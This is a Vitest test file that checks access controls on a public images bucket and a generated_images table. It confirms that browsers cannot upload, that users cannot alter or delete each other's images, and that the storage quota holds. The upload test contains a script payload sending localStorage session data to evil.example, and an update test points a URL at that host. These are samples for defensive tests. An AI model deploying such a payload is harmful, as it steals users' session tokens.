import { beforeAll, describe, expect, test } from "vitest";
import {
  anonClient,
  expectError,
  expectRefusedOrEmpty,
  ok,
  pngBytes,
  serviceClient,
  signUp,
  type TestUser,
} from "./support.ts";

let alice: TestUser;
let bob: TestUser;

beforeAll(async () => {
  [alice, bob] = await Promise.all([signUp("alice"), signUp("bob")]);
});

const images = (user: { client: TestUser["client"] } | TestUser["client"]) =>
  ("client" in user ? user.client : user).storage.from("images");

/**
 * The object names under a folder, read with the secret key. (Storage returns
 * names relative to the folder; the local stack returns full paths, see the
 * report, hence the basename.)
 */
async function objectsIn(folder: string): Promise<string[]> {
  const { data, error } = await serviceClient().storage.from("images").list(folder);
  if (error) throw error;
  return data.map((o) => o.name.split("/").pop()!).sort();
}

describe("storage: the public images bucket, written only by edge functions", () => {
  const bytes = pngBytes();
  let path: string;

  beforeAll(() => {
    path = `${alice.id}/a.png`;
  });

  test("the secret key (generate-image) stores an image under images/<user id>/", async () => {
    const uploaded = ok(await images(serviceClient()).upload(path, bytes, { contentType: "image/png" }));
    expect(uploaded.path).toBe(path);
    expect(await objectsIn(alice.id)).toEqual(["a.png"]);
  });

  test("the public URL serves the same bytes, byte for byte, without a key", async () => {
    const { publicUrl } = images(anonClient()).getPublicUrl(path).data;
    expect(publicUrl).toMatch(new RegExp(`/storage/v1/object/public/images/${alice.id}/a\\.png$`));
    const response = await fetch(publicUrl);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("image/png");
    const body = new Uint8Array(await response.arrayBuffer());
    expect(body.length).toBe(bytes.length);
    expect(Buffer.compare(Buffer.from(body), Buffer.from(bytes))).toBe(0);
  });

  test("a download with the secret key gives the same bytes", async () => {
    const blob = ok(await images(serviceClient()).download(path));
    expect(Buffer.compare(Buffer.from(await blob.arrayBuffer()), Buffer.from(bytes))).toBe(0);
  });

  test("the browser cannot upload, not even into the user's own folder (an HTML page named .png included)", async () => {
    const page = new TextEncoder().encode("<script>fetch('https://evil.example/?'+localStorage.getItem('sb'))</script>");
    expectError(await images(alice).upload(`${alice.id}/x.png`, page, { contentType: "image/png" }));
    expectError(await images(alice).upload(`${alice.id}/x.svg`, page, { contentType: "image/svg+xml" }));
    expectError(await images(alice).upload(`${alice.id}/real.png`, pngBytes(), { contentType: "image/png" }));
    expectError(await images(bob).upload(`${alice.id}/planted.png`, pngBytes(), { contentType: "image/png" }));
    expectError(await images(anonClient()).upload(`${alice.id}/anon.png`, pngBytes(), { contentType: "image/png" }));
    expectError(await images(anonClient()).upload(`anon.png`, pngBytes(), { contentType: "image/png" }));
    expect(await objectsIn(alice.id)).toEqual(["a.png"]);
    expect((await fetch(images(anonClient()).getPublicUrl(`${alice.id}/x.png`).data.publicUrl)).status).not.toBe(200);
  });

  test("nobody but the secret key replaces an image (upsert), the owner included", async () => {
    expectError(await images(alice).upload(path, pngBytes(), { contentType: "image/png", upsert: true }));
    expectError(await images(bob).upload(path, pngBytes(), { contentType: "image/png", upsert: true }));
    const body = new Uint8Array(await (await fetch(images(anonClient()).getPublicUrl(path).data.publicUrl)).arrayBuffer());
    expect(Buffer.compare(Buffer.from(body), Buffer.from(bytes))).toBe(0);
  });

  test("the bucket itself refuses what is not an image, and files over 10 MiB, even from the secret key", async () => {
    expectError(
      await images(serviceClient()).upload(`${bob.id}/notes.txt`, new TextEncoder().encode("hello"), { contentType: "text/plain" }),
    );
    expectError(
      await images(serviceClient()).upload(`${bob.id}/page.html`, new TextEncoder().encode("<p>x</p>"), { contentType: "text/html" }),
    );
    const tooBig = new Uint8Array(10 * 1024 * 1024 + 1);
    tooBig.set(pngBytes().subarray(0, 8));
    expectError(await images(serviceClient()).upload(`${bob.id}/big.png`, tooBig, { contentType: "image/png" }));
    expect(await objectsIn(bob.id)).toEqual([]);
  });

  test("bob and anon cannot remove alice's image", async () => {
    expectRefusedOrEmpty(await images(bob).remove([path]));
    expectRefusedOrEmpty(await images(anonClient()).remove([path]));
    expect(await objectsIn(alice.id)).toEqual(["a.png"]);
  });

  // Storage's remove filters by name, so PostgreSQL also applies SELECT
  // policies: without the owner's SELECT policy a removed image would
  // silently stay public.
  test("the owner can remove her own image (the image library deletes files)", async () => {
    const victim = `${alice.id}/to-remove.png`;
    ok(await images(serviceClient()).upload(victim, pngBytes(), { contentType: "image/png" }));
    const removed = ok(await images(alice).remove([victim]));
    expect(removed).toHaveLength(1);
    expect(await objectsIn(alice.id)).not.toContain("to-remove.png");
  });
});

describe("generated_images: read and delete by the owner; rows written by edge functions", () => {
  let aliceImageId: string;
  let bobImageId: string;
  const row = (user: TestUser, name: string) => ({
    user_id: user.id,
    storage_path: `${user.id}/${name}`,
    public_url: `https://project.example/storage/v1/object/public/images/${user.id}/${name}`,
    prompt: `prompt of ${name}`,
    image_size: "square_hd",
    style_preset: "photographic",
    num_inference_steps: 25,
    guidance_scale: 7.5,
    content_type: "image/png",
    byte_size: 1234,
  });
  const stored = async (id: string) =>
    (await serviceClient().from("generated_images").select("prompt, public_url").eq("id", id).maybeSingle()).data;

  beforeAll(async () => {
    const rows = ok(await serviceClient().from("generated_images").insert([row(alice, "one.png"), row(bob, "one.png")]).select("id, user_id"));
    aliceImageId = rows.find((r) => r.user_id === alice.id)!.id;
    bobImageId = rows.find((r) => r.user_id === bob.id)!.id;
  });

  test("select: the owner sees hers only; bob and anon see none of hers", async () => {
    const mine = ok(await alice.client.from("generated_images").select("id, prompt, guidance_scale").order("created_at", { ascending: false }));
    expect(mine).toEqual([{ id: aliceImageId, prompt: "prompt of one.png", guidance_scale: 7.5 }]);
    expectRefusedOrEmpty(await bob.client.from("generated_images").select("id").eq("id", aliceImageId));
    expectRefusedOrEmpty(await anonClient().from("generated_images").select("*"));
  });

  test("insert: nobody but the edge function", async () => {
    expectError(await alice.client.from("generated_images").insert(row(alice, "two.png")));
    expectError(await anonClient().from("generated_images").insert(row(alice, "three.png")));
    const { count } = await serviceClient().from("generated_images").select("id", { count: "exact", head: true }).eq("user_id", alice.id);
    expect(count).toBe(1);
  });

  test("update: nobody, owner included", async () => {
    expectRefusedOrEmpty(await alice.client.from("generated_images").update({ public_url: "https://evil.example/x.png" }).eq("id", aliceImageId).select());
    expectRefusedOrEmpty(await bob.client.from("generated_images").update({ prompt: "x" }).eq("id", aliceImageId).select());
    expectRefusedOrEmpty(await anonClient().from("generated_images").update({ prompt: "x" }).eq("id", aliceImageId).select());
    expect(await stored(aliceImageId)).toEqual({ prompt: "prompt of one.png", public_url: row(alice, "one.png").public_url });
  });

  test("delete: bob and anon delete nothing; the owner deletes hers", async () => {
    expectRefusedOrEmpty(await bob.client.from("generated_images").delete().eq("id", aliceImageId).select());
    expectRefusedOrEmpty(await anonClient().from("generated_images").delete().eq("id", aliceImageId).select());
    expect(await stored(aliceImageId)).not.toBeNull();
    ok(await alice.client.from("generated_images").delete().eq("id", aliceImageId));
    expect(await stored(aliceImageId)).toBeNull();
    expect(await stored(bobImageId)).not.toBeNull();
  });

  // Migration 20261204000200: the quota is what Storage holds, and a row goes only with its file.
  test("deleting an image's row while its file is stored is refused and frees nothing; deleting the file first does", async () => {
    const path = `${alice.id}/quota/kept.png`;
    const bytes = pngBytes();
    ok(await images(serviceClient()).upload(path, bytes, { contentType: "image/png" }));
    const [image] = ok(
      await serviceClient().from("generated_images").insert({ ...row(alice, "quota/kept.png"), byte_size: bytes.length }).select("id"),
    );
    const used = async () => Number(ok(await serviceClient().rpc("image_storage_used", { p_user_id: alice.id })));
    const before = await used();
    expect(before).toBeGreaterThanOrEqual(bytes.length);

    // The red team's bypass: the row deleted over REST, the file left public.
    const bypass = await alice.client.from("generated_images").delete().eq("id", image.id);
    expect(bypass.error?.message).toBe("Delete the image's file first: an image is removed together with its file");
    expect(await stored(image.id)).not.toBeNull();
    expect(await used()).toBe(before);

    // The image library's delete: the file, then the row.
    expect(ok(await images(alice).remove([path]))).toHaveLength(1);
    expect(await used()).toBe(before - bytes.length);
    ok(await alice.client.from("generated_images").delete().eq("id", image.id));
    expect(await stored(image.id)).toBeNull();
    expect((await fetch(images(anonClient()).getPublicUrl(path).data.publicUrl)).status).not.toBe(200);
  });
});
